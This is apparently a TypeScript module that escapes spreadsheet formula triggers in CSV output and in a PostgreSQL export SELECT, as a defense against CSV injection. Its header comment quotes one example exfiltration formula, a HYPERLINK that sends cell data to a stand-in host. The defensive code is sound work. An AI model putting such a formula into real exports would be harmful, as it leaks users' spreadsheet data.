/**
 * CSV injection (OWASP's "CSV Injection"): a spreadsheet opening a CSV takes a cell that starts
 * with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://evil.test/?"&A1)` sends the sheet
 * away), and some also after a leading TAB or CR. Such a cell is written with a leading `'`, which
 * makes it text. Numbers are left as they are: `-5` is a number, not a formula, in every
 * spreadsheet, and a numeric column must import back as one.
 *
 * The rule lives here twice over, for the two writers: the error report escapes in JavaScript
 * (`escapeFormula`), an export in the SELECT that feeds PostgreSQL's COPY (`escapeFormulaSql`).
 */
import { NUMBER_TEXT } from './values.js';

/** The first characters that make a cell a formula. */
export const FORMULA_TRIGGERS = ['=', '+', '-', '@', '\t', '\r'] as const;

const EQUALS = 0x3d;
const PLUS = 0x2b;
const MINUS = 0x2d;
const AT = 0x40;
const TAB = 0x09;
const CR = 0x0d;

/**
 * `cell` with a leading `'` when a spreadsheet would run it. `numeric`: the cell belongs to a
 * number column, where a number (`-5`, `+1.5e3`) is data and stays as it is.
 */
export function escapeFormula(cell: string, numeric = false): string {
  const c = cell.charCodeAt(0);
  if (c !== EQUALS && c !== PLUS && c !== MINUS && c !== AT && c !== TAB && c !== CR) return cell;
  if (numeric && NUMBER_TEXT.test(cell)) return cell;
  return `'${cell}`;
}

/**
 * The same rule for a text column of an export's SELECT, only in exports that ask for it (the
 * default SELECT is unchanged). `ascii()` reads the first character's code, an integer compared
 * without the collation a text comparison would use. NULL stays NULL, '' stays ''.
 */
export function escapeFormulaSql(column: string): string {
  return `CASE WHEN ascii(${column}) IN (${FORMULA_CODES}) THEN '''' || ${column} ELSE ${column} END`;
}

const FORMULA_CODES = FORMULA_TRIGGERS.map((c) => c.charCodeAt(0)).join(', ');
